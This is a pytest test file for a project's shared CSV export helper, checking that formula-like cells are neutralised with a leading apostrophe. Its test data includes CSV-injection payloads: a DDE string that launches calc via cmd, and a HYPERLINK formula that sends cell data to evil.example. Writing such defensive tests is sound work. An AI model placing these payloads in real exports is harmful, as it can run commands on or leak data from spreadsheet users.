"""The one CSV writer: every cell that a spreadsheet would run as a formula is neutralized."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from chorus.common.csvexport import csv_bytes, csv_lines, csv_safe

FORMULAS = ["=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\tTAB", "\rCR",
            '=HYPERLINK("http://evil.example/?x="&A1;"click")']  # fmt: skip


@pytest.mark.parametrize("cell", FORMULAS)
def test_a_cell_that_starts_like_a_formula_is_quoted(cell):
    assert csv_safe(cell) == "'" + cell
    [row] = csv.reader(io.StringIO(csv_bytes([[cell]]).decode(), newline=""))
    assert row == ["'" + cell]


@pytest.mark.parametrize("value", ["Engineering", "a=b", "", "Zoë", 12, -3, 1.5, None, True])
def test_other_cells_are_written_as_they_are(value):
    assert csv_safe(value) == value


def test_lines_stream_one_row_at_a_time_with_header_and_bom():
    lines = csv_lines(iter([["a", "=x"], ["b", "c,d"]]), header=["name", "value"], bom=True)

    assert next(lines) == "\ufeff".encode()
    assert next(lines) == b"name,value\r\n"
    assert next(lines) == b"a,'=x\r\n"
    assert next(lines) == b'b,"c,d"\r\n'
    assert list(lines) == []


def test_every_csv_export_uses_the_shared_writer():
    """Only chorus/common/csvexport.py may build csv writers (grep, as a guard for new code)."""
    root = Path(__file__).resolve().parents[2]
    offenders = [
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if "tests" not in path.parts
        and path.name != "csvexport.py"
        and ("csv.writer(" in path.read_text() or "csv.DictWriter(" in path.read_text())
    ]
    assert offenders == []
